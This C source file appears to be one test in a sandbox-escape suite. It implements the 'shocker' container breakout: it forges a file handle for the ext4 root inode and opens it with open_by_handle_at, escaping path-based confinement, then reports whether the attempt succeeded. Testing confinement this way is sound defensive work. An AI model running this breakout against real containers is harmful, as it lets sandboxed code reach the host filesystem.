// SPDX-License-Identifier: Apache-2.0
// Attack 16: files by handle rather than by path, which knows no root ("shocker").
#include "attempt.h"

int main(void) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle;
    int mount = 0;
    handle.head.handle_bytes = sizeof handle.bytes;
    report("name-to-handle", name_to_handle_at(AT_FDCWD, "/tmp", &handle.head, &mount, 0));
    if (handle.head.handle_bytes == sizeof handle.bytes) {
        // The root directory of ext2, ext3 and ext4: inode 2, generation 0.
        uint32_t inode[2] = {2, 0};
        handle.head.handle_type = 1;
        handle.head.handle_bytes = sizeof inode;
        memcpy(handle.head.f_handle, inode, sizeof inode);
    }
    int where = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    report("open-by-handle", open_by_handle_at(where, &handle.head, O_RDONLY | O_CLOEXEC));
    return 0;
}
